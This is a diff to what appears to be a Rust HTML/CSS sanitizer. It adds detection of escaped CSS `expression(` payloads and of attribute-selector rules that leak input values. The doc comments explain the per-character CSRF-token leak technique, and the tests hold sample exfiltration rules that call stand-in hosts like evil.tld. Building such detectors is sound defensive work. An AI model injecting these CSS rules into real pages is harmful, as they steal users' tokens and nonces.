@@ -8,12 +8,21 @@ use super::entity::decode_backslashes;
 /// Bytes of CSS examined.
 const MAX_CSS: usize = 8192;
 
-/// Does this CSS text execute or load active content?
+/// Does this CSS text execute or load active content? Read as the CSS tokenizer reads it,
+/// then, when it has backslashes, as text whose backslashes stand for nothing: a JavaScript
+/// string that writes the style (`el.style.cssText='…'`) reads `\e` as `e`, and so does an
+/// application that strips slashes, so `expr\ession(` is `expression(` there although CSS
+/// reads `\e` as a hex escape.
 pub fn dangerous(css: &str) -> bool {
     let css = match css.char_indices().nth(MAX_CSS) {
         Some((i, _)) => &css[..i],
         None => css,
     };
+    dangerous_text(css) || (css.contains('\\') && dangerous_text(&css.replace('\\', "")))
+}
+
+/// [`dangerous`] for one reading of the escapes (the CSS tokenizer's).
+fn dangerous_text(css: &str) -> bool {
     let decoded = decode_backslashes(css);
     let mut folded: Vec<u8> = Vec::with_capacity(decoded.len());
     let b = decoded.as_bytes();
@@ -94,6 +103,61 @@ static ACTIVE: std::sync::LazyLock<Option<aho_corasick::packed::Searcher>> =
         words.build()
     });
 
+/// Bytes after an attribute selector searched for its block's `url(`.
+const MAX_RULE: usize = 512;
+
+/// `}input[name=csrf][value^=a]{background:url(//evil.example/a)}`: a rule that fetches an
+/// outside URL only when an input's value starts with, ends with or holds a given text. One
+/// such rule per character leaks a token (CSRF, nonce) to that host without any script. A
+/// page's own style sheets select by type, class or link target, and load their images
+/// from relative URLs; the value's text is what only an attacker asks about.
+pub fn selector_exfiltration(v: &str) -> bool {
+    let b = v.as_bytes();
+    for p in memchr::memchr_iter(b'[', b).take(64) {
+        let r = b[p + 1..].trim_ascii_start();
+        let name_len = r
+            .iter()
+            .take(8)
+            .take_while(|c| c.is_ascii_alphabetic())
+            .count();
+        let name = &r[..name_len];
+        if !(name.eq_ignore_ascii_case(b"value") || name.eq_ignore_ascii_case(b"nonce")) {
+            continue;
+        }
+        let r = r[name_len..].trim_ascii_start();
+        if !(r.len() > 1 && matches!(r[0], b'^' | b'$' | b'*') && r[1] == b'=') {
+            continue;
+        }
+        let r = &r[..r.len().min(MAX_RULE)];
+        // the selector ends at `{`; the block at `}`
+        let Some(open) = memchr::memchr(b'{', r) else {
+            continue;
+        };
+        let block = &r[open + 1..];
+        let block = &block[..memchr::memchr(b'}', block).unwrap_or(block.len())];
+        if external_url(block) {
+            return true;
+        }
+    }
+    false
+}
+
+/// Whether a CSS declaration block loads a `url(` on another host (`//host`, `http(s):`).
+fn external_url(block: &[u8]) -> bool {
+    memchr::memchr_iter(b'(', block).any(|p| {
+        p >= 3 && block[p - 3..p].eq_ignore_ascii_case(b"url") && {
+            let u = block[p + 1..].trim_ascii_start();
+            let u = u
+                .strip_prefix(b"\"")
+                .or_else(|| u.strip_prefix(b"'"))
+                .unwrap_or(u);
+            u.starts_with(b"//")
+                || (u.len() > 7 && u[..7].eq_ignore_ascii_case(b"http://"))
+                || (u.len() > 8 && u[..8].eq_ignore_ascii_case(b"https://"))
+        }
+    })
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -116,5 +180,28 @@ mod tests {
         ));
         assert!(!dangerous("color: red; font-weight: bold"));
         assert!(!dangerous("background: url(https://example.com/a.png)"));
+        assert!(dangerous("w\\idth:expr\\ession(alert(1))"));
+    }
+
+    #[test]
+    fn selectors_that_leak_input_values() {
+        for v in [
+            "red;}input[name=csrf][value^=a]{background:url(//evil.tld/a)}",
+            "<style>input[value^=\"a\"]{background:url(https://evil.tld/?a)}</style>",
+            "}input[value$='z'] { background-image: url('http://x.example/z') }",
+            "script[nonce*=ab]{display:block;background:url(//x.example/ab)}",
+        ] {
+            assert!(selector_exfiltration(v), "{v}");
+        }
+        for v in [
+            "a[href^=\"http\"]{background:url(https://cdn.example.com/ext.png)}",
+            "input[type=checkbox]{background:url(//cdn.example.com/x.png)}",
+            "input[value^=a]{border:1px solid red}",
+            "input[value^=a]{background:url(/img/a.png)}",
+            "input[value=\"\"]{background:url(//cdn.example.com/empty.png)}",
+            "array[value^2] = {url(http://x)}",
+        ] {
+            assert!(!selector_exfiltration(v), "{v}");
+        }
     }
 }
